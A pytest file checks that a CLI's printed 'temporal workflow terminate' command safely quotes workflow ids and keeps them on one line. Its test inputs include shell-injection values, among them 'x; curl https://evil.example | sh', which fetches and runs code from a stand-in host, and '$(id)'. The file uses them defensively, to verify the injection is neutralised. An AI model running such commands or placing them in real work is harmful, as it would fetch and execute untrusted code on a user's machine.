"""What ``parley audit forget`` tells."""

from __future__ import annotations

import shlex

import pytest

from cli.forgetting import told
from records.forgetting import Forgotten, InClear


@pytest.mark.parametrize("workflow_id", ["conv-1", "x; curl https://evil.example | sh", "-x", "$(id)", "it's"])
def test_what_ends_a_conversation_by_hand_is_one_command(workflow_id: str, capsys: pytest.CaptureFixture[str]) -> None:
    """Whoever starts a workflow by an SDK chooses its id: copied to a shell, nothing of it is run."""
    told("ann", Forgotten(1, (workflow_id,), (), InClear(0, 0)), [], [workflow_id])
    *_, line = capsys.readouterr().out.splitlines()
    said, _, end = line.partition(" may still run. End it: ")
    assert said == workflow_id
    assert shlex.split(end) == ["temporal", "workflow", "terminate", f"--workflow-id={workflow_id}"]


def test_an_id_stays_on_its_line(capsys: pytest.CaptureFixture[str]) -> None:
    """None of its lines can be taken for one of ours."""
    told("ann", Forgotten(1, ("x\ny",), (), InClear(0, 0)), [], ["x\nparley up\u202e"])
    *_, line = capsys.readouterr().out.splitlines()
    assert line.startswith("x\ufffdparley up\ufffd may still run")
